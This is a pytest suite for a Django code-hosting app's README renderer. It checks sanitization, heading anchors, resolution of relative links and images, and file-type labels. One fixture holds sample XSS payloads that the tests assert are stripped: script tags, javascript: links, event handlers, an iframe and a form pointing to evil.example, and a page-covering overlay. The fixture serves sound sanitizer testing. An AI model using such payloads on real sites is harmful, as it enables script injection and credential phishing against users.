"""A README as a code host shows it: raw HTML through the sanitizer, headings
with anchors, relative links and images resolved in the project, external
images as links; file types by name; the page's title in plain text."""

import html
import re
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from projects.models import Project
from projects.render import markdown_render
from tests.kits.common import make_host, page_text
from tests.kits.mirror_stream import Stream, dir_change, file_change

pytestmark = pytest.mark.django_db

README = """<h1 align="center">
  <picture><source srcset="docs/logo-dark.png"><img src="docs/logo.png" alt="Acme logo" width="120"></picture>
  <br>Acme
</h1>
<!-- a maintainer's note -->
<p align="center"><a href="https://ci.example/acme">
<img src="https://ci.example/badge.svg" alt="build passing"></a></p>

## Contents
- [Install](#install)
- [Usage](#usage)
- [Guide](docs/GUIDE.md#setup)
- [Code](src/main.rs)
- [Docs](docs/)

## Install
![diagram](docs/diagram.svg) ![secret](secret.png) ![huge](docs/huge.png) ![away](../away.png)

## Usage
| option | meaning |
|---|---|
| `--verbose` | prints everything |
"""

HOSTILE = """<script>window.__pwned = 1</script>
<iframe src="https://evil.example"></iframe>
<a href="javascript:window.__pwned=1">click</a>
<img src="docs/logo.png" onerror="window.__pwned=1" onload="window.__pwned=1" style="position:fixed">
<div style="position:fixed;inset:0" onclick="window.__pwned=1" class="topbar">cover</div>
<style>body { display: none }</style>
<form action="https://evil.example"><input name="password"></form>
<svg onload="window.__pwned=1"><a href="javascript:1">x</a></svg>
<a href="https://example.com" target="_top" onmouseover="x()">fine</a>
<h2 id="main">Main</h2>
"""


@pytest.fixture
def host(team_a):
    return make_host(team_a, "Build box")[0]


@pytest.fixture
def project(host):
    stream = Stream(host.id)
    stream.projects("acme")
    stream.batch(
        "acme",
        file_change("README.md", README),
        file_change("HOSTILE.md", HOSTILE),
        dir_change("docs"),
        file_change("docs/GUIDE.md", "# Setup\n"),
        file_change("docs/logo.png", None, binary=True, size=2048),
        file_change("docs/diagram.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>"),
        file_change("docs/huge.png", None, binary=True, size=6 * 1024 * 1024),
        file_change("src/main.rs", "fn main() {}\n"),
        file_change("web/App.tsx", "export const App = () => <div/>;\n"),
        file_change("docs/café.py", "x = 'café'\n"),
        reset=True,
    )
    return Project.objects.get(name="acme")


def online(host):
    host.link_channel = "specific.test!1"
    host.last_seen_at = timezone.now()
    host.save(update_fields=["link_channel", "last_seen_at"])


def body_of(client, project, path) -> str:
    html = client.get(reverse("file_detail", args=[project.id, path])).content.decode()
    return html.split('id="file-body"', 1)[1].split("</article>", 1)[0]


def test_it_centres_a_raw_html_heading_and_hides_comments(alice_client, project, host):
    online(host)
    body = body_of(alice_client, project, "README.md")
    assert '<h1 align="center">' in body
    assert '<p align="center">' in body
    assert "maintainer" not in body and "&lt;!--" not in body and "&lt;h1" not in body


def test_headings_have_anchors_that_the_contents_link_to(alice_client, project):
    body = body_of(alice_client, project, "README.md")
    assert '<h2 id="md-install">Install</h2>' in body
    assert '<h2 id="md-usage">Usage</h2>' in body
    assert '<a href="#md-install"' in body and '<a href="#md-usage"' in body


def test_relative_links_open_the_files_in_the_hub(alice_client, project):
    body = body_of(alice_client, project, "README.md")
    guide = reverse("file_detail", args=[project.id, "docs/GUIDE.md"])
    code = reverse("file_detail", args=[project.id, "src/main.rs"])
    assert f'<a href="{guide}#md-setup"' in body
    assert f'<a href="{code}"' in body
    assert f'<a href="{reverse("folder_detail", args=[project.id, "docs"])}"' in body


def test_a_relative_image_is_served_by_the_hub_while_its_host_is_online(alice_client, project, host):
    online(host)
    body = body_of(alice_client, project, "README.md")
    logo = reverse("project_raw", args=[project.id, "docs/logo.png"])
    assert re.search(rf'<img src="{re.escape(logo)}" alt="Acme logo" width="120" loading="lazy"', body)
    assert "<source" not in body and "logo-dark" not in body
    diagram = reverse("project_raw", args=[project.id, "docs/diagram.svg"])
    assert f'<img src="{diagram}"' in body


def test_images_that_cannot_be_shown_say_why(alice_client, project, host):
    text = html.unescape(re.sub(r"<[^>]+>", "", body_of(alice_client, project, "README.md")))
    assert "Acme logo (Build box is offline)" in text  # offline and never fetched
    assert "secret (not in this project)" in text  # ignored files are never mirrored
    assert "huge (larger than the 5 MB the hub shows)" in text
    assert "away (not in this project)" in text  # ../ leaves the project
    assert "<img" not in body_of(alice_client, project, "README.md")


def test_an_external_image_is_a_link_with_its_alt_text(alice_client, project):
    body = body_of(alice_client, project, "README.md")
    assert not any("ci.example" in img for img in re.findall(r"<img[^>]*>", body))
    # Inside its link (a badge): the alt text, in the link to the CI.
    badge = r'<a href="https://ci.example/acme"[^>]*>\s*<span class="md-image">.*build passing'
    assert re.search(badge, body)
    alone = markdown_render(text="![chart](https://example.com/chart.png)").html
    assert '<a class="md-image" href="https://example.com/chart.png" rel="noopener noreferrer">' in alone
    assert "chart" in alone and "<img" not in alone


def test_hostile_raw_html_is_stripped(alice_client, project, host):
    online(host)
    body = body_of(alice_client, project, "HOSTILE.md")
    for bad in ("<script", "__pwned = 1", "<iframe", "javascript:", "onerror", "onload", "onclick",
                "onmouseover", "style=", "<style", "display: none", "<form", "<input", "<svg",
                "target=", 'class="topbar"', 'id="main"'):  # fmt: skip
        assert bad not in body, bad
    assert '<a href="https://example.com" rel="noopener noreferrer">fine</a>' in body
    assert '<h2 id="md-main">Main</h2>' in body  # cannot take the id of the page's <main>
    assert "cover" in body  # the text stays, without its styles and handlers


@pytest.mark.parametrize(
    ("path", "named"), [("src/main.rs", "Rust"), ("web/App.tsx", "TSX"), ("docs/logo.png", "image/png")]
)
def test_file_types_are_named_from_the_file_name(alice_client, project, path, named):
    text = page_text(alice_client.get(reverse("file_detail", args=[project.id, path])))
    assert f" · {named} · on Build box" in text
    assert "rls-services" not in text and "unknown type" not in text


def test_the_page_title_is_plain_text(alice_client, project, host):
    host.executors = [{"name": "claude", "label": "Claude", "kind": "command", "needs_file": False}]
    host.save()
    html = alice_client.get(reverse("file_detail", args=[project.id, "src/main.rs"])).content.decode()
    title = re.search(r"<title>(.*?)</title>", html, re.S).group(1)
    assert title == "main.rs · acme · codexhub"


def test_a_cached_image_is_shown_even_while_the_host_is_offline(alice_client, project):
    from projects.models import FileFetch

    entry = project.entries.get(path="docs/logo.png")
    FileFetch.objects.create(
        project=project, path=entry.path, path_hash=entry.path_hash, request="r" * 20,
        answered_at=timezone.now() - timedelta(days=1), hash=entry.hash, size=4, data=b"\x89PNG",
    )  # fmt: skip
    body = body_of(alice_client, project, "README.md")
    assert f'<img src="{reverse("project_raw", args=[project.id, "docs/logo.png"])}"' in body
